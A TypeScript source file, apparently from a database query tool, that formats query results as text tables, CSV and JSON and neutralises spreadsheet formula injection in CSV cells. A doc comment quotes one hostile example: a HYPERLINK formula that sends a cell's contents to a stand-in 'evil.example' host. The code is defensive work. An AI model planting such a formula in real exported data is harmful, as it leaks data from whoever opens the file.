import { displayNumber, type DisplayKind } from '../lib/display-number.ts';

export { displayNumber, type DisplayKind };

export interface TableOptions {
  /**
   * Columns shown rounded for a person (see {@link displayNumber}): money to its currency's
   * minor unit, other numbers to at most 6 decimals. The values themselves are never changed.
   */
  kinds?: Record<string, DisplayKind>;
  /** The currency of the `money` columns (an ISO 4217 code; cents without one). */
  currency?: string;
}

/** Prints rows as an aligned text table. */
export function formatTable(rows: Record<string, unknown>[], columns?: string[], options: TableOptions = {}): string {
  const cols = columns ?? (rows[0] ? Object.keys(rows[0]) : []);
  if (cols.length === 0) return '(no rows)\n';
  const layout = tableLayout(cols, rows, options);
  return `${layout.head}${rows.map((r) => `${layout.line(r)}\n`).join('')}${tableFoot(rows.length)}`;
}

/**
 * How a table lays out its lines: each column as wide as its name and its widest value among
 * `rows`, right-aligned when every one of those values is a number. A long result is laid out
 * from its first rows (`verite query` reads it a batch at a time): a wider value further down
 * pushes its own line out, never hidden or cut.
 */
export function tableLayout(cols: string[], rows: Record<string, unknown>[], options: TableOptions = {}): { head: string; line: (row: Record<string, unknown>) => string } {
  const kinds = options.kinds ?? {};
  const shown = (value: unknown, kind: DisplayKind | undefined) =>
    kind && (typeof value === 'string' || typeof value === 'number' || typeof value === 'bigint') ? displayNumber(value, kind, { currency: options.currency }) : cell(value);
  const cellsOf = (r: Record<string, unknown>) => cols.map((c) => shown(r[c], kinds[c]));
  const cells = rows.map(cellsOf);
  const widths = cols.map((c, i) => Math.max(c.length, ...cells.map((row) => row[i]!.length)));
  const numeric = cols.map((_, i) => cells.length > 0 && cells.every((row) => row[i] === '' || /^-?[\d.,]+%?$/.test(row[i]!)));
  const line = (values: string[]) => values.map((v, i) => (numeric[i] ? v.padStart(widths[i]!) : v.padEnd(widths[i]!))).join('  ').trimEnd();
  return { head: `${line(cols)}\n${widths.map((w) => '-'.repeat(w)).join('  ')}\n`, line: (row) => line(cellsOf(row)) };
}

/** A table's last line: how many rows it has. */
export function tableFoot(count: number): string {
  return `(${count} row${count === 1 ? '' : 's'})\n`;
}

export function cell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (value instanceof Date) return value.toISOString();
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

export interface CsvOptions {
  /** Columns whose values are numbers (numeric, bigint and float columns, which the driver gives as text): never prefixed. */
  numbers?: ReadonlySet<string>;
  /** Text cells as they are, a formula's first character included (`verite query --raw-csv`). */
  raw?: boolean;
}

/** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"): = + - @, a tab, a carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One CSV cell, RFC 4180 quoted. A text cell that begins as a formula would
 * (`=HYPERLINK("https://evil.example/?"&A1,"Click")`, a UTM campaign any visitor can set) gets a
 * `'` before it, which spreadsheets read as "this is text" and do not show, so opening the file
 * runs nothing. A number, typed as one by the driver or from a numeric column, is left as it
 * is: -3 stays a number.
 */
export function csvCell(value: unknown, options: { number?: boolean; raw?: boolean } = {}): string {
  let text = cell(value);
  const isNumber = options.number === true || typeof value === 'number' || typeof value === 'bigint';
  if (!options.raw && !isNumber && FORMULA_START.test(text)) text = `'${text}`;
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/**
 * One line of RFC 4180 CSV (without its line break), each value a {@link csvCell}: a value
 * holding a comma, a quote or a line break is quoted, a text cell that would start a formula
 * neutralised. `columns` names the values, to tell the numeric columns' ({@link CsvOptions}).
 * The header (the column names, without `columns`) is text like any other cell.
 */
export function csvLine(values: unknown[], columns?: readonly string[], options: CsvOptions = {}): string {
  return values
    .map((v, i) => {
      if (columns === undefined) return csvCell(v, { raw: options.raw });
      const column = columns[i]!;
      return csvCell(v, { number: options.numbers?.has(column), raw: options.raw });
    })
    .join(',');
}

/** JSON's number grammar (RFC 8259): what PostgreSQL's numeric text is, NaN and Infinity aside. */
const JSON_NUMBER = /^-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?$/;

/**
 * One row of a JSON array (`verite query --format json`): an object, the `numbers` columns as
 * JSON numbers written with every digit the database sent (a numeric of 30 digits stays 30
 * digits in the text; a reader decides how to hold it), NaN and ±Infinity, which JSON has no
 * number for, as the strings "NaN", "Infinity", "-Infinity". Every other value as
 * JSON.stringify writes it.
 */
export function jsonRow(row: Record<string, unknown>, numbers: ReadonlySet<string> = new Set()): string {
  const value = (column: string, v: unknown): string => {
    if (numbers.has(column) && v !== null && v !== undefined) {
      const text = String(v);
      return JSON_NUMBER.test(text) ? text : JSON.stringify(text);
    }
    return JSON.stringify(v ?? null);
  };
  return `{${Object.entries(row).map(([c, v]) => `${JSON.stringify(c)}:${value(c, v)}`).join(',')}}`;
}
